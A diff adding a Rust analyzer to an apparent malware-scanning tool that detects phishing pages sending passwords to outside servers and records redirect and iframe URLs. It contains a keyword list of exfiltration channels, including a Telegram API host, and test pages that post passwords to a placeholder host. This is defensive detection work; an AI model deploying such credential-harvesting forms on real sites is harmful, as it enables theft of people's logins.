@@ -1,0 +1,215 @@
+//! Pages that ask for a password and send it to a server, and where pages lead by themselves.
+
+use memchr::memmem;
+
+use super::place::{Place, plain};
+use super::{Analyzer, Findings, Found, Look, Sees};
+use crate::formats::html::{self, Tag};
+use crate::model::{Family, IocType, Kind};
+use crate::text;
+
+/// Its row in the table.
+pub(super) const ROW: Analyzer = Analyzer {
+    name: "credential_form",
+    kinds: &[Kind::Html, Kind::Svg, Kind::Hta, Kind::Js],
+    sees: Sees::Place,
+    findings: &["credential-form"],
+    run,
+};
+
+/// Bytes of a page that are read.
+const LONGEST: usize = 8 << 20;
+
+/// Tags that are read.
+const TAGS: usize = 200_000;
+
+/// What sends something from a script.
+const SENDS: &[&str] = &[
+    "fetch(",
+    "XMLHttpRequest",
+    "$.ajax",
+    "$.post",
+    "axios",
+    "sendBeacon",
+    "api.telegram.org",
+];
+
+fn run(look: &Look<'_>, findings: &mut Findings<'_>) {
+    let artifact = look.artifact;
+    let in_document = look
+        .parent()
+        .is_some_and(|parent| matches!(parent.kind.family(), Family::Ooxml | Family::Odf));
+    let page = matches!(artifact.kind, Kind::Html | Kind::Svg | Kind::Hta);
+    // What a script of a page puts together may be the page.
+    let written = artifact.kind == Kind::Js
+        && artifact.via == Some("decoded-text")
+        && look
+            .ancestors()
+            .any(|above| above.via == Some("script-block"));
+    if !page && !written || in_document {
+        return;
+    }
+    let data = artifact.data.get(..LONGEST).unwrap_or(&artifact.data);
+    let lower = data.to_ascii_lowercase();
+    let has = |word: &str| memmem::find(&lower, word.as_bytes()).is_some();
+    // Texts of two bytes a character are rare, and read whole.
+    let wide = data.starts_with(b"\xff\xfe") || data.starts_with(b"\xfe\xff");
+    let asks = wide || has("passw") || has("pswd") || has("\"pass\"");
+    if !asks && !has("refresh") && !has("<iframe") && !has("<form") && !has("location") {
+        return;
+    }
+    let source = text::to_utf8(data);
+    let mut password = None;
+    let mut target = None;
+    for tag in html::tags(&source, TAGS) {
+        match tag.name.as_str() {
+            "input" if is_password(&tag) => {
+                password.get_or_insert(tag.at);
+            }
+            "form" | "button" | "input" => {
+                let name = if tag.name == "form" {
+                    "action"
+                } else {
+                    "formaction"
+                };
+                if let Some(address) = tag.attribute(name).and_then(|value| outside(look, value)) {
+                    findings.ioc(IocType::Url, &address);
+                    target.get_or_insert(address);
+                }
+            }
+            "meta" => redirect(look, findings, &tag),
+            "iframe" | "frame" => {
+                if let Some(address) = tag.attribute("src").and_then(|value| outside(look, value)) {
+                    findings.ioc(IocType::Url, &address);
+                }
+            }
+            _ => {}
+        }
+    }
+    let sent = scripted(look, &source);
+    for address in &sent {
+        findings.ioc(IocType::Url, address);
+    }
+    let Some(at) = password else {
+        return;
+    };
+    let posts = SENDS.iter().any(|word| source.contains(word));
+    let Some(target) = target.or_else(|| sent.into_iter().next().filter(|_| posts)) else {
+        return;
+    };
+    findings.report(Found::new("credential-form", &format!("password sent to {target}")).at(at));
+}
+
+/// A field for a password, also one that only looks like another.
+fn is_password(tag: &Tag) -> bool {
+    let value = |name| tag.attribute(name).unwrap_or_default().to_ascii_lowercase();
+    let kind = value("type");
+    if kind == "password" {
+        return true;
+    }
+    let named = ["name", "id", "placeholder"]
+        .iter()
+        .any(|name| value(name).contains("passw"));
+    named && matches!(kind.as_str(), "" | "text") && value("style").contains("text-security")
+}
+
+/// An address on the web, in the form in which it is fetched.
+fn outside(look: &Look<'_>, value: &str) -> Option<String> {
+    let target = plain(value);
+    let protocol_relative = target.starts_with("//");
+    let web = Place::of(&target, &look.knowledge.links) == Place::Web;
+    (web || protocol_relative).then_some(target)
+}
+
+/// `<meta http-equiv="refresh" content="0; url=…">`.
+fn redirect(look: &Look<'_>, findings: &mut Findings<'_>, tag: &Tag) {
+    let refresh = tag
+        .attribute("http-equiv")
+        .is_some_and(|value| value.trim().eq_ignore_ascii_case("refresh"));
+    let content = tag.attribute("content").unwrap_or_default();
+    let lower = content.to_ascii_lowercase();
+    let address = lower
+        .find("url=")
+        .and_then(|at| content.get(at.checked_add(4)?..))
+        .filter(|_| refresh);
+    if let Some(address) = address.and_then(|value| outside(look, value)) {
+        findings.ioc(IocType::Url, &address);
+    }
+}
+
+/// Addresses to which a script of the page goes or sends something.
+fn scripted(look: &Look<'_>, source: &str) -> Vec<String> {
+    const BEFORE: &[&str] = &[
+        "location.href",
+        "location=",
+        "location =",
+        "location.replace(",
+        "location.assign(",
+        "fetch(",
+        ".open(",
+        "url:",
+        "$.post(",
+        "sendBeacon(",
+        "axios.post(",
+    ];
+    let mut found: Vec<String> = Vec::new();
+    for word in BEFORE {
+        for (at, _) in source.match_indices(word).take(32) {
+            let rest = source
+                .get(at.saturating_add(word.len())..)
+                .unwrap_or_default();
+            let near = rest.get(..rest.floor_char_boundary(400)).unwrap_or(rest);
+            // The first text behind it, or the second where the first is a method.
+            let texts = near.split(['"', '\'', '`']).skip(1).step_by(2).take(2);
+            let address = texts.filter_map(|text| outside(look, text)).next();
+            if let Some(address) = address.filter(|address| !found.contains(address)) {
+                found.push(address);
+            }
+        }
+    }
+    found
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::tests::{holding, run as run_on};
+    use super::*;
+
+    fn found(page: &str) -> (usize, usize) {
+        let (findings, iocs) = run_on(run, &[holding(Kind::Html, page.as_bytes())]);
+        (findings.len(), iocs.len())
+    }
+
+    #[test]
+    fn passwords_that_leave_are_found_and_those_that_stay_are_not() {
+        for page in [
+            "<form action=\"https://login.example.invalid/p.php\" method=post><input type=password name=p></form>",
+            "<form><input type='PASSWORD'></form><script>fetch('https://login.example.invalid/', {method: 'POST'})</script>",
+            "<script>document.write(\"<form action=\\\"//login.example.invalid/\\\"><input type=\\\"password\\\">\")</script>",
+            "<script>x.open('POST', 'https://login.example.invalid/'); new XMLHttpRequest()</script><input type=password>",
+        ] {
+            assert_eq!(found(page), (1, 1), "{page}");
+        }
+        for page in [
+            "<form action=\"/login\"><input type=password></form>",
+            "<form action=\"https://www.example.com/search\"><input name=q></form>",
+            "<p>Your password has been changed: <a href=\"https://www.example.com/\">see</a></p>",
+            "<form><input type=password></form>",
+        ] {
+            assert_eq!(found(page).0, 0, "{page}");
+        }
+    }
+
+    #[test]
+    fn where_a_page_leads_is_kept() {
+        assert_eq!(
+            found("<META HTTP-EQUIV=Refresh content=\"0;URL='https://example.invalid/a'\">"),
+            (0, 1)
+        );
+        assert_eq!(
+            found("<script>window.location.href = \"https://example.invalid/\";</script>"),
+            (0, 1)
+        );
+        assert_eq!(found("<meta http-equiv=refresh content=\"30\">"), (0, 0));
+    }
+}
